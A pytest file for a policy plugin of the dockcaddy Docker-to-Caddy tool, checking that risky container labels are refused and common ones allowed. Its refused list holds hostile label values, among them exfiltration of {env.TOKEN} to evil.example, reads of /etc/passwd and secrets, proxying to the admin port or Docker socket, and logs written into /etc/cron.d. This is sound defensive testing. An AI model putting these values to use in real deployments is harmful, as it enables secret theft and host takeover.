"""What labels may not say, and who may say it all the same."""

import pytest
from dockcaddy import LabelError, Proxy, plugins, testing
from dockcaddy.errors import SettingsError
from dockcaddy.model import EngineInventory, Inventory
from dockcaddy.rendering import Renderer, ResourceContext
from dockcaddy.settings import Settings, load_sections
from dockcaddy_policy import PolicySettings

PROXY = Proxy(
    folders=("/data", "/config", "/etc/caddy", "/var/lib/dockcaddy"),
    files=("/home/op/Caddyfile",),
    base_folder="/home/op/caddy",
    admin_port=2019,
)


def rendered(labels: dict[str, str], settings: PolicySettings | None = None, **more):
    """The fragment of a container with these labels."""
    registry = plugins.load()
    container = testing.container("web-1", labels=labels, **more)
    engine = EngineInventory("local", (container,))
    sections = {PolicySettings: settings or PolicySettings()}
    context = ResourceContext(container, engine, registry, sections, Inventory((engine,)), PROXY)
    return Renderer(registry, "caddy").render(context)


def refused_by(labels: dict[str, str], settings: PolicySettings | None = None, **more) -> str:
    """The rule that refuses the container, `""` where none does."""
    fragment = rendered(labels, settings, **more)
    if not fragment.problems:
        return ""
    return fragment.problems[0].message.rpartition('["')[2].partition("@")[0]


def site(**labels: str) -> dict[str, str]:
    """A site's labels; `__` stands for a dot."""
    return {"caddy": "example.org", **{key.replace("__", "."): value for key, value in labels.items()}}


REFUSED = [
    ("environment", site(caddy__respond="{env.TOKEN}")),
    ("environment", site(caddy__respond="{$TOKEN}")),
    ("environment", site(caddy__respond="`a {env.TOKEN} b`")),
    ("environment", site(caddy__header__X="{env.TOKEN}")),
    ("environment", {"caddy": "{$HOST}.example.org", "caddy.respond": "x"}),
    ("environment", {"caddy": "example.org", "caddy.header.{env\\.TOKEN}": "x"}),
    ("environment", {"caddy": "(s)", "caddy.respond": "{env.TOKEN}"}),
    ("environment", {"caddy.email": "{env.TOKEN}"}),
    ("environment", site(caddy__tls__ca="https://evil.example/{env.TOKEN}")),
    ("environment", site(caddy__tls__ca="{env.TOKEN}")),
    ("environment", site(caddy__basic_auth="bcrypt {env.TOKEN}")),
    ("environment", site(caddy__import="s {env.TOKEN}")),
    ("environment", {"caddy": "example.org", "caddy.@a.vars": "{env.TOKEN} x"}),
    ("environment", site(caddy__reverse_proxy__header_up="X {env.TOKEN}", caddy__reverse_proxy="a:80")),
    ("files", site(caddy__respond="{file./etc/passwd}")),
    ("files", site(caddy__tls__dns="x {file./run/secrets/a}")),
    ("built-placeholders", {"caddy": "(s)", "caddy.respond": "{{\"{{args[0]}.TOKEN}\"}}"}),
    ("built-placeholders", {"caddy": "(s)", "caddy.{args[0]}": "/data"}),
    ("built-placeholders", site(caddy__import="s {en v.TOKEN}")),
    ("expressions", {"caddy": "example.org", "caddy.@a.expression": "`ph(req, 'env.TOKEN') == 'x'`"}),
    ("expressions", {"caddy": "example.org", "caddy.@a": "expression `vars({'{en' + 'v.T}': 'x'})`"}),
    ("imports", site(caddy__import="/etc/passwd")),
    ("imports", {"caddy": "import /etc/passwd"}),
    ("imports", site(caddy__import="../secrets")),
    ("imports", site(caddy__import="/home/op/caddy/../../adm/x")),
    ("imports", site(caddy__handle__import="{args[0]}")),
    ("admin", {"caddy.admin": "0.0.0.0:2019"}),
    ("admin", {"caddy.admin": "off"}),
    ("upstreams", site(caddy__reverse_proxy="localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy="http://127.0.0.1:2019")),
    ("upstreams", site(caddy__reverse_proxy="/x* [::1]:2019")),
    ("upstreams", site(caddy__reverse_proxy="[::ffff:127.0.0.1]:2019")),
    ("upstreams", site(caddy__reverse_proxy="evil.example:2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:2018-2020")),
    ("upstreams", site(caddy__reverse_proxy=":2019")),
    ("upstreams", site(caddy__reverse_proxy="{header.Up}")),
    ("upstreams", site(caddy__reverse_proxy="localhost:{header.Port}")),
    ("upstreams", site(caddy__reverse_proxy="unix//var/run/docker.sock")),
    ("upstreams", site(caddy__reverse_proxy="unix//proc/1/fd/3")),
    ("upstreams", site(caddy__reverse_proxy="unix//var/lib/dockcaddy/admin.sock")),
    ("upstreams", site(caddy__reverse_proxy__to="localhost:2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="a localhost 2019")),
    ("upstreams", site(caddy__reverse_proxy__dynamic="srv _x._tcp.evil.example")),
    ("upstreams", site(caddy__reverse_proxy="localhost:80", caddy__reverse_proxy__health_port="2019")),
    ("upstreams", site(caddy__reverse_proxy="localhost:80", caddy__reverse_proxy__health_upstream="localhost:2019")),
    ("upstreams", site(caddy__forward_auth="localhost:2019")),
    ("upstreams", site(caddy__handle__php_fastcgi="localhost:2019")),
    ("upstreams", site(caddy__import="proxy localhost:2019")),
    ("listeners", {"caddy": "http://example.org:2019", "caddy.respond": "x"}),
    ("listeners", {"caddy.http_port": "2019"}),
    ("listeners", site(caddy__bind="tcp/127.0.0.1:2019")),
    ("log-files", site(caddy__log__output="file /data/caddy/x")),
    ("log-files", site(caddy__log__output="file /var/log/../lib/x")),
    ("log-files", site(caddy__log__output="file /etc/cron.d/x")),
    ("roots", site(caddy__root="* /data")),
    ("roots", site(caddy__root="/data/caddy/certificates")),
    ("roots", site(caddy__root="* /")),
    ("roots", site(caddy__root="* /srv/../etc")),
    ("roots", site(caddy__root="* //proc/self")),
    ("roots", site(caddy__root="* ../..")),
    ("roots", site(caddy__root="* /home/op")),
    ("roots", site(caddy__file_server__root="/config")),
    ("roots", site(caddy__vars="root /data")),
    ("roots", site(caddy__vars__root="/data")),
    ("roots", {"caddy": "example.org", "caddy.@f.file.root": "/etc"}),
    ("chosen-roots", site(caddy__root="* /srv/{header.X}")),
    ("chosen-roots", {"caddy": ":8080", "caddy.root": "* /srv/{host}"}),
    ("chosen-roots", {"caddy": "(s)", "caddy.root": "{args[0]}"}),
    ("templates", site(caddy__templates="")),
    ("global-options", {"caddy.default_bind": "127.0.0.9"}),
    ("global-options", {"caddy.auto_https": "off"}),
    ("global-options", {"caddy.log.output": "discard"}),
]  # fmt: skip

ALLOWED = [
    site(caddy__tls="{env.EMAIL}"),
    site(caddy__tls__dns="cloudflare {env.CF_API_TOKEN}"),
    {"caddy.acme_dns": "cloudflare {env.CF_API_TOKEN}"},
    {"caddy.acme_dns": "cloudflare {$CF_API_TOKEN}"},
    {"caddy.storage": "redis", "caddy.storage.password": "{env.REDIS_PASSWORD}"},
    site(caddy__basic_auth__bob="{env.HASH}"),
    site(caddy__respond="a{2,3} {http.request.uri} {host}"),
    site(caddy__import="common"),
    site(caddy__import="common {host} {uri} 8080 `a b`"),
    site(caddy__import="/home/op/caddy/snippets/*.caddy"),
    site(caddy__reverse_proxy="{{upstreams 2019}}"),
    site(caddy__reverse_proxy="localhost:8080 unix//run/php/php.sock https://example.net"),
    site(caddy__reverse_proxy="{labels.2}:8080"),
    {"caddy": "(proxy)", "caddy.reverse_proxy": "{args[0]}"},
    {"caddy": "example.org", "caddy.@a.expression": "`{http.request.uri}.matches('^/a{2}')`"},
    {"caddy": "example.org", "caddy.@a.expression": "path('/x') && header({'X': 'y'})"},
    site(caddy__log__output="file /var/log/caddy/example.log"),
    site(caddy__log__output="stderr"),
    site(caddy__root="* /srv/www"),
    site(caddy__root="* /home/op/public"),
    site(caddy__root="* /var/www/{host}"),
    site(caddy__root="* public"),
    site(caddy__file_server=""),
    {"caddy.email": "op@example.org", "caddy.servers.protocols": "h1 h2", "caddy.auto_https": "disable_redirects"},
]


@pytest.mark.parametrize(("rule", "labels"), REFUSED, ids=[f"{rule}-{at}" for at, (rule, _) in enumerate(REFUSED)])
def test_a_label_that_could_reach_the_proxys_own_is_refused(rule: str, labels: dict[str, str]) -> None:
    assert refused_by(labels) == rule


@pytest.mark.parametrize("labels", ALLOWED, ids=[str(at) for at, _ in enumerate(ALLOWED)])
def test_what_people_use_is_let_through(labels: dict[str, str]) -> None:
    assert not rendered(labels).problems


@pytest.mark.parametrize(
    "allow",
    [
        "environment",
        "environment@container:web-*",
        "container:web-1",
        "environment@project:shop",
        "network:front",
        "environment@prefix:caddy.resp",
    ],
)
def test_a_setting_lets_through_whom_it_names(allow: str) -> None:
    labels = site(caddy__respond="{env.TOKEN}") | {"com.docker.compose.project": "shop"}
    assert refused_by(labels, PolicySettings(allow=(allow,))) == ""


@pytest.mark.parametrize("allow", ["files", "environment@container:db", "project:other", "environment@prefix:caddy_9"])
def test_a_setting_lets_through_nobody_else(allow: str) -> None:
    assert refused_by(site(caddy__respond="{env.TOKEN}"), PolicySettings(allow=(allow,))) == "environment"


def test_full_trust_lets_everything_through() -> None:
    settings = PolicySettings(trust="all")
    assert [labels for _, labels in REFUSED if refused_by(labels, settings)] == []


def test_the_refusal_names_the_label_and_the_way_around() -> None:
    (problem,) = rendered(site(caddy__respond="{env.TOKEN}")).problems
    assert str(problem) == (
        "container web-1: label caddy.respond: policy: {env.TOKEN} could be sent out; "
        'to allow it: [policy] allow = ["environment@container:web-1"]'
    )


@pytest.mark.parametrize(
    ("given", "message"),
    [("enviroment", 'no rule "enviroment", did you mean "environment"'), ("files@name:x", "expected RULE, SCOPE:NAME")],
)
def test_a_wrong_exception_is_told(given: str, message: str) -> None:
    settings = Settings(sections={"policy": {"allow": [given]}}, source="dockcaddy.toml")
    with pytest.raises(SettingsError, match=message):
        load_sections(settings, plugins.load().sections, {})


def test_what_is_withheld_is_still_shown() -> None:
    fragment = rendered(site(caddy__templates=""))
    assert fragment.withheld and "templates" in fragment.content


@pytest.mark.parametrize("value", ["{$x", "{$X:`}", "{$X:<<E}", "{$X:#}", "{$}", "a {$X:{} b"])
def test_a_variable_that_would_open_a_structure_is_refused_whomever_it_comes_from(value: str) -> None:
    fragment = rendered(site(caddy__respond=value), PolicySettings(trust="all"))
    assert "not a whole reference to a variable" in str(fragment.problems)


def test_a_guard_may_refuse_a_resource() -> None:
    class Strict:
        __name__ = "dockcaddy_strict"

        @staticmethod
        def check(context, blocks) -> None:
            raise LabelError(blocks[0].origins[0].label, "not today")

    import dockcaddy

    plugin = type("Strict", (), {"__name__": "dockcaddy_strict"})()
    plugin.dockcaddy_guards = dockcaddy.hook(lambda: [dockcaddy.Guard("strict", Strict.check)])
    fragment = testing.fragment(testing.container("web-1", labels=site(caddy__respond="x")), plugin)
    assert str(fragment.problems[0]) == "container web-1: label caddy: not today"
